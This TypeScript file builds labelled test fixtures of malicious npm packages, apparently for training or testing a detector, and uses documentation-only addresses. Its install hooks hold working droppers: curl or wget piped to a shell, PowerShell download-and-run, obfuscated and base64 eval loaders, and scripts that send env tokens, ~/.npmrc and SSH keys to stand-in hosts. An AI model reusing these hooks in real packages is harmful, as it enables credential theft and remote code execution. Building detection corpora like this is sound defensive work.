/**
 * Install-script droppers: a lifecycle script that fetches and runs a payload, or ships the
 * environment out. Every network target is a reserved documentation address (example.*, TEST-NET
 * IPs): the fixtures show the mechanism, they carry no working infrastructure. Varied by hook
 * (preinstall/install/postinstall), by shell vs node, and by how the payload hides.
 */
import type { FixtureFile } from '../../../test/support/package-fixture.js';
import { type CorpusEntry, type FamilyOutput, DAY_MS, HOUR_MS, MINUTE_MS, type Rng, ago, at, json, person, version } from '../kit.js';

interface Dropper {
  name: string;
  version: string;
  note: string;
  scripts: Record<string, string>;
  files: Record<string, FixtureFile>;
  description?: string;
}

function b64(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64');
}

function obfuscated(rng: Rng): string {
  // String-array obfuscation in the style of common JS obfuscators: the strings are hex-escaped
  // and looked up through a rotating index, so nothing readable remains.
  const strings = ['child_process', 'exec', 'curl -s http://198.51.100.23/s | sh', 'https', 'get'];
  const table = strings.map((s) => `'${[...s].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`).join(',');
  const id = `_0x${rng.hex(4)}`;
  return `var ${id}=[${table}];(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(${id},0x0));var _0x${rng.hex(4)}=function(_0x5){return ${id}[_0x5-0x0];};try{require(${id}[0])[${id}[1]](${id}[2]);}catch(_0x6){}\n`;
}

export function dropperFamily(rng: Rng): FamilyOutput {
  const droppers: Dropper[] = [
    {
      name: 'colorette-utils-extra',
      version: '1.0.3',
      note: 'postinstall pipes a remote shell script into sh',
      scripts: { postinstall: 'curl -fsSL http://203.0.113.7/install.sh | sh' },
      files: { 'index.js': "module.exports = require('./lib/colors');\n", 'lib/colors.js': 'module.exports = { red: (s) => `\\u001b[31m${s}\\u001b[39m` };\n' },
    },
    {
      name: 'node-fetch-polyfill-lite',
      version: '2.6.9',
      note: 'preinstall downloads a binary to /tmp, makes it executable and runs it',
      scripts: { preinstall: 'wget -q -O /tmp/.cache-helper http://198.51.100.44/bin/helper && chmod +x /tmp/.cache-helper && /tmp/.cache-helper &' },
      files: { 'index.js': 'module.exports = globalThis.fetch;\n' },
    },
    {
      name: 'eslint-plugin-react-hooks-next',
      version: '5.0.1',
      note: 'postinstall runs a base64-encoded payload through node -e',
      scripts: {
        postinstall: `node -e "eval(Buffer.from('${b64("require('https').get('https://payload.example.net/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})")}','base64').toString())"`,
      },
      files: { 'index.js': 'module.exports = { rules: {} };\n' },
    },
    {
      name: 'aws-sdk-config-loader',
      version: '3.1.0',
      note: 'postinstall script collects tokens and keys from the environment and POSTs them out',
      scripts: { postinstall: 'node scripts/setup.js' },
      files: {
        'index.js': 'module.exports = () => ({ region: process.env.AWS_REGION || "us-east-1" });\n',
        'scripts/setup.js': `const https = require('https');
const os = require('os');

const wanted = Object.keys(process.env).filter((k) => /TOKEN|SECRET|KEY|PASS|AWS|NPM/i.test(k));
const body = JSON.stringify({
  host: os.hostname(),
  user: os.userInfo().username,
  env: Object.fromEntries(wanted.map((k) => [k, process.env[k]])),
});
const req = https.request({ hostname: 'collect.example.org', path: '/c', method: 'POST', headers: { 'content-type': 'application/json' } });
req.on('error', () => {});
req.end(body);
`,
      },
    },
    {
      name: 'acme-internal-billing-client',
      version: '99.10.2',
      note: 'dependency-confusion probe: internal-sounding name at 99.x, preinstall beacons hostname and user over DNS',
      scripts: { preinstall: 'node index.js' },
      files: {
        'index.js': `const dns = require("dns");
const os = require("os");
const hex = (s) => Buffer.from(s).toString("hex").slice(0, 60);
const label = [hex(os.hostname()), hex(os.userInfo().username), hex(process.cwd())].join(".");
dns.lookup(label + ".oast.example.com", () => {});
`,
      },
    },
    {
      name: 'webpack-dev-server-cli-fix',
      version: '4.15.3',
      note: 'install hook runs an obfuscated file that execs a remote script',
      scripts: { install: 'node build.js' },
      files: { 'build.js': obfuscated(rng), 'index.js': "module.exports = require('./build.js');\n" },
    },
    {
      name: 'discord-token-utils',
      version: '1.2.0',
      note: 'postinstall target file is missing from the tarball (fetched or swapped in later)',
      scripts: { postinstall: 'node lib/install.js' },
      files: { 'index.js': 'module.exports = {};\n', 'README.md': '# discord-token-utils\n\nUtilities for Discord bots.\n' },
    },
    {
      name: 'win-build-tools-helper',
      version: '0.4.1',
      note: 'preinstall PowerShell downloads and starts an executable',
      scripts: { preinstall: 'powershell -NoProfile -ExecutionPolicy Bypass -Command "iwr http://192.0.2.15/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe"' },
      files: { 'index.js': 'module.exports = { ok: true };\n' },
    },
    {
      name: 'react-native-svg-loader2',
      version: '1.0.0',
      note: 'postinstall reads ~/.npmrc and SSH keys and sends them with fetch',
      scripts: { postinstall: 'node dist/telemetry.js' },
      files: {
        'dist/index.js': 'exports.load = (src) => src;\n',
        'dist/telemetry.js': `const { readFileSync } = require('fs');
const { homedir } = require('os');
const { join } = require('path');

function grab(p) {
  try { return readFileSync(join(homedir(), p), 'utf8'); } catch { return ''; }
}

fetch('https://telemetry.example.com/v1/events', {
  method: 'POST',
  body: JSON.stringify({ npmrc: grab('.npmrc'), key: grab('.ssh/id_rsa'), gh: process.env.GITHUB_TOKEN }),
}).catch(() => {});
`,
      },
    },
    {
      name: 'lodash-es-compat-pack',
      version: '4.17.22',
      note: 'postinstall fetches JavaScript with node -e and evaluates it',
      scripts: { postinstall: `node -e "require('http').get('http://203.0.113.90/x',r=>{let s='';r.on('data',d=>s+=d).on('end',()=>new Function(s)())})"` },
      files: { 'index.js': "module.exports = require('./compat');\n", 'compat.js': 'module.exports = {};\n' },
    },
    {
      name: 'sharp-image-native-fix',
      version: '0.33.6',
      note: 'hides behind a real-looking native build: binding.gyp + C source, but install chains a script that ships the npm token out',
      scripts: { install: 'node-gyp rebuild && node tools/postbuild.js' },
      files: {
        'binding.gyp': json({ targets: [{ target_name: 'resize', sources: ['src/resize.c'] }] }),
        'src/resize.c': '#include <node_api.h>\n\nNAPI_MODULE_INIT() {\n  return exports;\n}\n',
        'index.js': "module.exports = require('./build/Release/resize.node');\n",
        'tools/postbuild.js': `const { execSync } = require('child_process');
const token = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN || '';
let npmrc = '';
try { npmrc = execSync('npm config get //registry.npmjs.org/:_authToken').toString(); } catch {}
execSync('curl -s -X POST -d @- https://hooks.example.org/build', { input: JSON.stringify({ token, npmrc }) });
`,
      },
    },
  ];
  const entries: CorpusEntry[] = droppers.map((d, i) => {
    const publisher = person(rng.pick(['jsdev' + rng.int(100, 999), 'npm-helper-' + rng.letters(3), 'buildtools']));
    const created = ago(rng.int(1, 20) * DAY_MS + rng.int(0, 23) * HOUR_MS);
    const manifest: Record<string, unknown> = {
      description: d.description ?? rng.pick(['', 'Utility helpers', `Fixes for ${d.name.split('-')[0]}`]),
      main: Object.keys(d.files).find((f) => f.endsWith('index.js')) ?? 'index.js',
      scripts: d.scripts,
      license: 'MIT',
    };
    const versions = [version(d.version, created, d.files, manifest)];
    // A few first publish a harmless version, then add the hook.
    if (i % 3 === 0) {
      const clean = { ...manifest, scripts: {} };
      versions.unshift(version(d.version.replace(/\d+$/, (p) => String(Math.max(0, Number(p) - 1))), at(created, -rng.int(30, 300) * MINUTE_MS), d.files, clean));
      if (versions[0]!.version === versions[1]!.version) versions.shift();
    }
    return { label: { family: 'install-dropper' as const, spam: true, note: d.note }, fixture: { name: d.name, publisher, versions } };
  });
  return { entries };
}
